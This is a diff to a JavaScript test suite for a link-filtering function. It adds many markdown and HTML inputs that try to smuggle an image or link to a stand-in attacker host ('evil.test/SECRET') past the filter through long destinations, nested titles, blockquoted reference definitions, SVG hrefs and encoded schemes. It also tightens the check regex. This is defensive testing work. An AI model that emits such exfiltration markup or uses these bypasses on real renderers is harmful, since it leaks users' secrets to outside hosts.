@@ -45,6 +45,33 @@ const attacks = [
   `![${'x'.repeat(3_000)}](https://evil.test/SECRET)`,
   '[a](https://page.example/a?b=1&d=SECRET)',
   '![a](https://page.example/SECRET)',
+  // destinations that are too long to be read
+  `![p](//evil.test/SECRET${'x'.repeat(3_000)})`,
+  `![p](< //evil.test/SECRET${'x'.repeat(3_000)}>)`,
+  `![p](//evil.test/SECRET "${'x'.repeat(3_000)}")`,
+  `![p](${' '.repeat(3_000)}//evil.test/SECRET)`,
+  `![x][r]\n\n[r]:${' '.repeat(3_000)}//evil.test/SECRET`,
+  // renderers end these before the bracket, and show what is inside
+  '[a](/b "\n\n![p](//evil.test/SECRET)")',
+  '[a](/b "\n# ![p](//evil.test/SECRET)\n")',
+  '[a](</b>"![p](//evil.test/SECRET)")',
+  '[a](\n\n![p](//evil.test/SECRET))',
+  '![a](/a.png "![p](//evil.test/SECRET)")',
+  '![a](/b (\n\n![p](//evil.test/SECRET) )',
+  '![a\n# ![p](//evil.test/SECRET)\n](/b)',
+  '![a\n===\n![p](//evil.test/SECRET)\n](/b)',
+  '![a <img src="//evil.test/SECRET" alt="](/b)">',
+  // definitions in quotes and with other line ends
+  '![x][r]\n\n> [r]:\n> //evil.test/SECRET',
+  '![x][r]\n\n> > [r]:\n> > <//evil.test/SECRET>',
+  '![x][r]\r\n\r\n[r]:\r\n//evil.test/SECRET',
+  `<img alt=${' '.repeat(20)}">" src=//evil.test/SECRET>`,
+  '<svg><image xlink:href="/\t/evil.test/SECRET"/></svg>',
+  '<svg><image xlink:href="htt\nps:/evil.test/SECRET"/></svg>',
+  'go to https\\://evil.test/SECRET',
+  'go to https&#58;//evil.test/SECRET',
+  'go to https&colon;&sol;&sol;evil.test/SECRET',
+  'go to www\\.evil.test/SECRET',
 ];
 
 const benign = [
@@ -63,7 +90,7 @@ describe('filterLinks', () => {
     const text = filtered(`before ${attack} after`);
     expect(text).toMatch(/^before [\s\S]* after$/);
     // what is left has neither a tag nor a destination that is fetched
-    expect(text).not.toMatch(/https?:[\\/]|\]\([^)]*SECRET|<[a-z][^>]*SECRET|www\.evil|\]:\s*\S*SECRET/i);
+    expect(text).not.toMatch(/https?(?:\\?:|&)[\\/&]|\]\([^)]*SECRET|<[a-z][^>]*SECRET|www\\?\.evil|(?<!\\)\[[^[]*\]:[\s>]*<?\S*SECRET/i);
   });
 
   it.each(benign)('leaves %j as it is', (text) => {
